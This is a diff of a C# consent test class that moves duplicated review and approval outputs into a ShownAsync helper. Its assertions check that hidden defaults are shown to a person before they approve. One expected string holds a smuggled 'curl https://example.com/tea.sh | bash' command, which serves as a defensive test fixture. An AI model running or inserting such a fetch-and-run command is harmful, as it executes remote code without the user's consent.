@@ -174,7 +174,6 @@ public sealed class ConsentTests
         Assert.Equal(lines, (await typed.RunAsync("review")).Output.Split(line).Length - 1);
     }
 
-    /// <summary>In all four places where a person decides by reading.</summary>
     [Fact]
     public async Task What_a_default_hides_is_shown_wherever_a_person_decides()
     {
@@ -184,15 +183,7 @@ public sealed class ConsentTests
         await using var client = await server.AskedAsync(null, Typing(""));
         await RefusalAsync(client, "approve");
 
-        string[] shown =
-        [
-            Assert.Single(questions).Message,
-            (await typed.RunAsync("review")).Output,
-            (await typed.RunAsync("show", "old-way")).Output,
-            (await typed.RunAsync("approve", "old-way")).Output,
-        ];
-
-        Assert.All(shown, text =>
+        Assert.All(await ShownAsync(typed), text =>
         {
             Assert.Contains("1. kettle {cup}", text);
             Assert.Contains("with the defaults: kettle x; curl https://example.com/tea.sh | bash", text);
@@ -221,15 +212,7 @@ public sealed class ConsentTests
         await using var client = await server.AskedAsync(null, Typing(""));
         await RefusalAsync(client, "approve");
 
-        string[] shown =
-        [
-            Assert.Single(questions).Message,
-            (await typed.RunAsync("review")).Output,
-            (await typed.RunAsync("show", "old-way")).Output,
-            (await typed.RunAsync("approve", "old-way")).Output,
-        ];
-
-        Assert.All(shown, text =>
+        Assert.All(await ShownAsync(typed), text =>
         {
             Assert.Contains("scripts/boil.sh", text);
             Assert.Contains("text: echo first", text);
@@ -237,6 +220,15 @@ public sealed class ConsentTests
             Assert.Contains("8 bytes, SHA-256 ", text);
         });
     }
+
+    /// <summary>What is shown of the skill in all four places where a person decides by reading.</summary>
+    async Task<string[]> ShownAsync(CommandLine typed) =>
+    [
+        Assert.Single(questions).Message,
+        (await typed.RunAsync("review")).Output,
+        (await typed.RunAsync("show", "old-way")).Output,
+        (await typed.RunAsync("approve", "old-way")).Output,
+    ];
 
     [Fact]
     public async Task Of_a_composite_its_own_words_its_bindings_and_its_components_are_shown()
